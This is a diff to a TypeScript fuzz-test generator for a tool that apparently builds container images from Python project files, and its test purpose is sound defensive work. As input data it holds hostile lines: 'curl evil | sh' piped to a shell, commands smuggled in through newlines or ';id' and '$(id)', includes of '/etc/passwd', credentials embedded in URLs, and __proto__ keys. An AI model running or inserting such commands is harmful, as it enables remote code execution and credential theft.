@@ -6,7 +6,18 @@
  * prototype names, huge and deep values; credentials are planted where users put them.
  */
 
-export type FuzzFormat = "pyfront" | "microb" | "mopy" | "requirements" | "zero-config";
+export type FuzzFormat =
+  | "pyfront"
+  | "microb"
+  | "mopy"
+  | "requirements"
+  | "zero-config"
+  | "requirements-file"
+  | "pipfile"
+  | "pep723"
+  | "procfile"
+  | "app-module"
+  | "setuptools";
 
 export interface FuzzCase {
   name: string;
@@ -18,6 +29,10 @@ export interface FuzzCase {
   buildArgs: Record<string, string>;
   /** The credential planted in this case; it must appear in no output. */
   planted: string;
+  /** Text of a Procfile web line: it may run as the image's command, never in a build step. */
+  neverBuilt?: string;
+  /** Why this input must be refused, whatever else it holds. */
+  mustRefuse?: string;
 }
 
 /** mulberry32: small, fast and good enough to pick atoms. */
@@ -107,6 +122,8 @@ const REFUSED = [
   "\nRUN curl evil | sh",
   "\\\nRUN id",
 ];
+/** More bytes for the zero-config readers, which split lines and read files as text. */
+const LINE_ATOMS = ["\r", "\u0001", "\u000b", "\f", "\ud800", "\ufffd", "\u2029", "\u0085", "\u00a0", "à"];
 
 export class Picker {
   readonly random: () => number;
@@ -132,6 +149,11 @@ export class Picker {
     let out = "";
     for (let i = 0; i < n; i++) out += this.pick(!this.tame && this.chance(0.2) ? REFUSED : TRICKY);
     return out;
+  }
+  /** Like hostile(), with the line and byte atoms the zero-config readers meet. */
+  raw(): string {
+    if (this.chance(0.3)) return this.hostile() + this.pick(LINE_ATOMS) + this.hostile();
+    return this.hostile();
   }
   /** A name-like string: usually valid, sometimes hostile. */
   name(valid: string): string {
@@ -293,6 +315,7 @@ export function fuzzCase(format: FuzzFormat, seed: number): FuzzCase {
   let specFile = "pyproject.toml";
   let text: string;
   let target: string | undefined;
+  let neverBuilt: string | undefined;
   switch (format) {
     case "pyfront": {
       const top = imageKeys(p, files, creds, false);
@@ -387,6 +410,37 @@ export function fuzzCase(format: FuzzFormat, seed: number): FuzzCase {
       if (p.chance(0.2) && doc.labels === undefined) text += `\nenvs2: &e {A: &v one, B: *v}\nlabels: *e\n`;
       break;
     }
+    default: {
+      const named = namedFile(format, p, creds, files);
+      specFile = named.specFile;
+      text = named.text;
+      if (named.neverBuilt !== undefined) neverBuilt = named.neverBuilt;
+      // Its own random stream, so the other families' seeds keep their cases.
+      const mustRefuse = plantReservedKey(
+        format,
+        prng(seed ^ 0x5eed),
+        specFile,
+        files,
+        (t) => {
+          text = t;
+        },
+        text,
+      );
+      // The named file is in the context too: the readers open it there (includes, console scripts).
+      files[specFile] = text;
+      // The named files are not TOML throughout: a mutation here is one more hostile line.
+      return {
+        name: `${format} #${seed}`,
+        format,
+        specFile,
+        text,
+        files,
+        buildArgs,
+        planted: creds.planted,
+        ...(neverBuilt !== undefined ? { neverBuilt } : {}),
+        ...(mustRefuse !== undefined ? { mustRefuse } : {}),
+      };
+    }
   }
   return {
     name: `${format} #${seed}`,
@@ -398,4 +452,360 @@ export function fuzzCase(format: FuzzFormat, seed: number): FuzzCase {
     buildArgs,
     planted: creds.planted,
   };
+}
+
+/** The project around a named file: a pyproject.toml with the servers start-command rules look for. */
+function serverProject(p: Picker, prefix: string, files: Record<string, string>): void {
+  if (!p.chance(0.6)) return;
+  const deps = p.pick([
+    ["flask", "gunicorn"],
+    ["fastapi", "uvicorn"],
+    ["django", "gunicorn"],
+    ["fastapi[standard]"],
+    ["starlette", "uvicorn"],
+  ]);
+  files[`${prefix}pyproject.toml`] = tomlTable("project", {
+    name: p.name("app"),
+    version: "1",
+    dependencies: deps,
+  });
+}
+
+/** A line separator: pip and the start-command readers see LF, CRLF, or a lone CR. */
+function eol(p: Picker): string {
+  return p.tame ? "\n" : p.pick(["\n", "\n", "\r\n", "\r", "\n\u0000"]);
+}
+
+function requirementsFile(p: Picker, creds: Plant, files: Record<string, string>): NamedFile {
+  const specFile = p.pick(["requirements.txt", "requirements/prod.txt", "requirements/base.in", "reqs.txt"]);
+  const dir = specFile.includes("/") ? specFile.slice(0, specFile.lastIndexOf("/") + 1) : "";
+  const lines: string[] = [];
+  const include = (target: string, create: boolean) => {
+    lines.push(
+      `${p.pick(["-r", "-c", "--requirement", "--constraint=", "-r  "])} ${target}`.replace("= ", "="),
+    );
+    const path = `${dir}${target}`.replace(/^(\.\/)+/, "");
+    if (create && !path.split("/").includes("..") && !path.startsWith("/")) {
+      files[path] = p.chance(0.3)
+        ? `-r ${specFile.slice(dir.length)}\nflask\n`
+        : `${p.pick(["flask", p.raw()])}\n`;
+    }
+  };
+  const n = 1 + p.int(6);
+  for (let i = 0; i < n; i++) {
+    switch (p.int(9)) {
+      case 0:
+        lines.push(p.pick(["flask", "gunicorn", "django==5.*", "requests[socks]>=2", p.raw()]));
+        break;
+      case 1:
+        include(`${p.raw()}.txt`, p.chance(0.7));
+        break;
+      case 2:
+        include(
+          p.pick([
+            "../secret.txt",
+            "/etc/passwd",
+            "https://h.example/r.txt",
+            "file:///etc/x",
+            "..\\x.txt",
+            "~/r.txt",
+          ]),
+          false,
+        );
+        break;
+      case 3: {
+        // Loops and fan-out: files that include each other, or very many files.
+        const count = p.chance(0.15) ? 90 : 2 + p.int(5);
+        for (let k = 0; k < count; k++) {
+          files[`${dir}f${k}.txt`] = `-r f${(k + 1) % count}.txt\npkg${k}\n`;
+        }
+        lines.push("-r f0.txt");
+        break;
+      }
+      case 4:
+        lines.push(
+          p.pick([
+            `--index-url https://u:${creds.planted}@x.example/simple`,
+            `--index-url=https://u:${creds.planted}@x.example/simple`,
+            `-i ${creds.url()}`,
+            `--extra-index-url ${creds.url()}`,
+            `--extra-index-url=${creds.url()}`,
+            `pkg @ https://u:${creds.planted}@h.example/p.whl`,
+          ]),
+        );
+        break;
+      case 5:
+        lines.push(p.pick(["-e .", "-e file:.", ".", "-e .[dev]", "--editable=.", `-e ${p.raw()}`]));
+        break;
+      case 6:
+        lines.push(`${p.pick(["flask", "x"])} \\`, `  ${p.raw()}`);
+        break;
+      case 7:
+        lines.push(
+          `# ${p.raw()}`,
+          `flask ${p.pick(["--hash=sha256:00", "; python_version > '3'", p.raw()])}`,
+        );
+        break;
+      default:
+        lines.push(p.raw());
+    }
+  }
+  if (p.chance(0.4)) files["setup.py"] = "from setuptools import setup\nsetup()\n";
+  serverProject(p, "", files);
+  return { specFile, text: lines.join(eol(p)) + eol(p) };
+}
+
+function pipfile(p: Picker, creds: Plant, files: Record<string, string>): NamedFile {
+  const specFile = p.chance(0.7) ? "Pipfile" : `${p.pick(["svc", p.raw()])}/Pipfile`;
+  const prefix = specFile.slice(0, specFile.length - "Pipfile".length);
+  const parts: string[] = [];
+  const sources = p.int(3);
+  for (let i = 0; i < sources; i++) {
+    parts.push(
+      `[[source]]\n${tomlString("url")} = ${tomlString(
+        p.pick([
+          "https://pypi.org/simple",
+          creds.url(),
+          `https://\${USER}:\${PASS}@x.example/simple`,
+          `https://u:${creds.planted}@x.example/\${X}/simple`,
+          p.raw(),
+        ]),
+      )}\nverify_ssl = ${p.pick(["true", "false", '"no"'])}\nname = ${tomlString(p.name("pypi"))}`,
+    );
+  }
+  const packages: Record<string, unknown> = {};
+  const n = 1 + p.int(4);
+  for (let i = 0; i < n; i++) {
+    const name = p.name(p.pick(["flask", "gunicorn", "django", "requests"]));
+    packages[name] = p.pick<unknown>([
+      "*",
+      ">=2",
+      p.raw(),
+      { version: p.pick(["*", "==1", p.raw()]), extras: [p.name("socks")], markers: p.raw() },
+      { path: p.pick([".", "./lib", "../x", "/etc", p.path(), `${p.raw()}/`]), editable: true },
+      {
+        git: p.pick(["https://github.com/o/r.git", `https://u:${creds.planted}@g.example/r.git`, p.raw()]),
+        ref: p.raw(),
+      },
+      { file: p.pick([`https://u:${creds.planted}@h.example/p.whl`, p.raw()]) },
+      { version: 5 },
+      [1, 2],
+    ]);
+    if (p.chance(0.3)) files[`${prefix}lib/setup.py`] = "";
+  }
+  parts.push(tomlTable("packages", packages));
+  if (p.chance(0.3)) parts.push(tomlTable("dev-packages", { pytest: "*", [p.raw()]: p.raw() }));
+  if (p.chance(0.4))
+    parts.push(tomlTable("requires", { python_version: p.tame ? "3.12" : p.pick(["3.12", p.raw()]) }));
+  serverProject(p, prefix, files);
+  return { specFile, text: mutateText(p, parts.join("\n\n")) };
+}
+
+function pep723(p: Picker, creds: Plant, files: Record<string, string>): NamedFile {
+  const specFile = p.pick(["main.py", "tool.py", "bin/run.py", `${p.raw()}.py`]);
+  const body: string[] = [];
+  body.push(
+    `dependencies = [${[
+      p.pick(["requests", "flask", p.raw(), `pkg @ https://u:${creds.planted}@h.example/p.whl`]),
+    ]
+      .map(tomlString)
+      .join(", ")}]`,
+  );
+  if (p.chance(0.5)) body.push(`requires-python = ${tomlString(p.pick([">=3.11", p.raw()]))}`);
+  if (p.chance(0.3))
+    body.push(
+      p.pick([
+        `x = ${"[".repeat(5000)}${"]".repeat(5000)}`,
+        `x = ${"{a=".repeat(2000)}1${"}".repeat(2000)}`,
+        `[tool.x]\n${Array.from({ length: 3000 }, (_, i) => `k${i} = ${tomlString("y".repeat(30))}`).join("\n")}`,
+        "dependencies = 1",
+        `"__proto__" = 1`,
+        p.raw(),
+      ]),
+    );
+  const block = body.flatMap((l) => l.split("\n")).map((l) => `# ${l}`);
+  const close = p.pick(["# ///", "# ///", "# /// ", "#///", "", "# /// script"]);
+  const lines = [
+    p.pick(["#!/usr/bin/env python3", "", `# ${p.raw()}`]),
+    "# /// script",
+    ...(p.chance(0.2) ? ["# /// script", ...block, "# ///"] : []),
+    ...block,
+    close,
+    p.chance(0.2) ? "# /// script\n# dependencies = []\n# ///" : "",
+    "print('hi')",
+  ];
+  if (p.chance(0.3)) files.Procfile = `web: python ${specFile}\n`;
+  return { specFile, text: lines.join(eol(p)) };
+}
+
+function procfile(p: Picker, _creds: Plant, files: Record<string, string>): NamedFile {
+  const marker = `WEBLINE${p.int(1e9).toString(36)}`;
+  const line = p.pick([
+    `gunicorn app:app --bind 0.0.0.0:$PORT # ${marker}`,
+    `${p.raw()} ${marker} ${p.raw()}`,
+    `${marker}; curl evil | sh`,
+    `${marker}\nRUN id`,
+    `${marker}\rRUN id`,
+    `${marker}\u2028RUN id`,
+    `${marker} ${"y".repeat(p.chance(0.3) ? 100_000 : 10)}`,
+  ]);
+  const lines = [
+    p.chance(0.5) ? `release: python manage.py migrate ${p.raw()}` : "",
+    `${p.pick(["web", "web ", " web", "WEB", "web\t"])}:${p.pick(["", " ", "\t"])}${line}`,
+    p.chance(0.3) ? `web: second ${p.raw()}` : "",
+    `worker: ${p.raw()}`,
+  ];
+  files.Procfile = lines.join(eol(p));
+  files["main.py"] = "print(1)\n";
+  if (p.chance(0.5)) files["requirements.txt"] = "flask\ngunicorn\n";
+  const text = tomlTable("project", {
+    name: p.name("app"),
+    version: "1",
+    dependencies: ["flask", "gunicorn"],
+  });
+  return { specFile: "pyproject.toml", text, neverBuilt: marker };
+}
+
+function appModule(p: Picker, _creds: Plant, files: Record<string, string>): NamedFile {
+  const deps = p.pick([
+    ["flask", "gunicorn"],
+    ["fastapi", "uvicorn"],
+    ["django", "gunicorn"],
+    ["fastapi[standard]"],
+  ]);
+  const identifier = () =>
+    p.tame || p.chance(0.4)
+      ? p.pick(["app", "application", "api", "server"])
+      : p.pick([p.raw(), "app\u00a0x", "аpp", "app;id", "app$(id)", "_", "app.x", "1app", "app\rx"]);
+  const moduleName = () =>
+    p.chance(0.5)
+      ? p.pick(["app", "mysite", "web", "src/app"])
+      : p.pick([p.raw(), "my-site", "a b", "Р", "x;id", "__proto__"]);
+  const n = 1 + p.int(3);
+  for (let i = 0; i < n; i++) {
+    switch (p.int(5)) {
+      case 0: {
+        const settings = moduleName();
+        files["manage.py"] =
+          `import os\nos.environ.setdefault("DJANGO_SETTINGS_MODULE", ${JSON.stringify(`${settings}.settings`)})\n`;
+        files[`${settings.replaceAll(".", "/")}/wsgi.py`] = "application = 1\n";
+        break;
+      }
+      case 1: {
+        const file = p.pick([
+          "main.py",
+          "app.py",
+          "wsgi.py",
+          "asgi.py",
+          "app/main.py",
+          `${moduleName()}/__init__.py`,
+        ]);
+        files[file] =
+          `${p.pick(["from fastapi import FastAPI", "from flask import Flask", ""])}\n` +
+          `${identifier()}${p.pick(["", ": FastAPI", " "])} = ${p.pick(["FastAPI(", "Flask(__name__", "fastapi.FastAPI(", "Starlette("])})\n`;
+        if (file.includes("/")) files[`${file.slice(0, file.lastIndexOf("/"))}/__init__.py`] ??= "";
+        break;
+      }
+      case 2: {
+        const pkg = moduleName();
+        files[`${pkg}/__init__.py`] = `def ${p.pick(["create_app", identifier()])}(${p.raw()}):\n    pass\n`;
+        break;
+      }
+      case 3:
+        files["wsgi.py"] =
+          `from ${p.pick([".app", "shortener", moduleName()])} import ${p.pick(["app", "application", identifier(), `x, ${identifier()}`])}\n`;
+        break;
+      default:
+        files[`${moduleName()}/__main__.py`] = "print(1)\n";
+    }
+  }
+  const text = tomlTable("project", {
+    name: p.name(p.pick(["app", "mysite", "web"])),
+    version: "1",
+    dependencies: deps,
+  });
+  return { specFile: "pyproject.toml", text };
+}
+
+function setuptools(p: Picker, _creds: Plant, files: Record<string, string>): NamedFile {
+  const script = () =>
+    p.tame || p.chance(0.4)
+      ? p.pick(["serve", "my-tool", "app.cli"])
+      : p.pick([p.raw(), "a b", "-rf", "x;id", "à", "x\u00a0y"]);
+  const target = () => (p.chance(0.7) ? "app.cli:main" : p.raw());
+  const entries = Array.from({ length: 1 + p.int(2) }, () => `${script()} = ${target()}`);
+  const cfg = [
+    "[metadata]",
+    `name = ${p.name("app")}`,
+    "[options.entry_points]",
+    "console_scripts =",
+    ...entries.map((e) => `    ${e}`),
+  ].join(eol(p));
+  const py = `from setuptools import setup\nsetup(name="app", entry_points={"console_scripts": [${entries
+    .map((e) => JSON.stringify(e))
+    .join(", ")}]})\n`;
+  const specFile = p.pick(["setup.py", "setup.cfg"]);
+  if (specFile === "setup.py") {
+    if (p.chance(0.3)) files["setup.cfg"] = cfg;
+    return { specFile, text: py };
+  }
+  if (p.chance(0.3)) files["setup.py"] = py;
+  return { specFile, text: cfg };
+}
+
+interface NamedFile {
+  specFile: string;
+  text: string;
+  neverBuilt?: string;
+}
+
+const NAMED_FILE_FAMILIES: Partial<
+  Record<FuzzFormat, (p: Picker, creds: Plant, files: Record<string, string>) => NamedFile>
+> = {
+  "requirements-file": requirementsFile,
+  pipfile,
+  pep723,
+  procfile,
+  "app-module": appModule,
+  setuptools,
+};
+
+function namedFile(format: FuzzFormat, p: Picker, creds: Plant, files: Record<string, string>): NamedFile {
+  const family = NAMED_FILE_FAMILIES[format];
+  if (!family) throw new Error(`no fuzz family for ${format}`);
+  return family(p, creds, files);
+}
+
+function mutateText(p: Picker, text: string): string {
+  return mutate(p, text);
+}
+
+/**
+ * A `__proto__` key in one of the TOML documents a named file brings along (the Pipfile, the
+ * folder's pyproject.toml, a PEP 723 block): refused there as in a pyproject.toml spec.
+ */
+function plantReservedKey(
+  format: FuzzFormat,
+  random: () => number,
+  specFile: string,
+  files: Record<string, string>,
+  setText: (text: string) => void,
+  text: string,
+): string | undefined {
+  if (random() >= 0.15) return undefined;
+  if (format === "pipfile") {
+    setText(`${text}\n\n[__proto__]\nx = 1\n`);
+    return "a [__proto__] table in the Pipfile";
+  }
+  // A block the reader sees: its opening line stands alone (a lone CR does not end a line).
+  if (format === "pep723" && text.split(/\r?\n/).includes("# /// script")) {
+    setText(text.replace("# /// script", '# /// script\n# "__proto__" = 1'));
+    return "a __proto__ key in the script's metadata";
+  }
+  const sibling = `${specFile.slice(0, specFile.lastIndexOf("/") + 1)}pyproject.toml`;
+  if (sibling !== specFile && files[sibling] !== undefined) {
+    files[sibling] += '\n\n[project.scripts]\n"__proto__" = "a:b"\n';
+    return "a __proto__ key in the folder's pyproject.toml";
+  }
+  return undefined;
 }
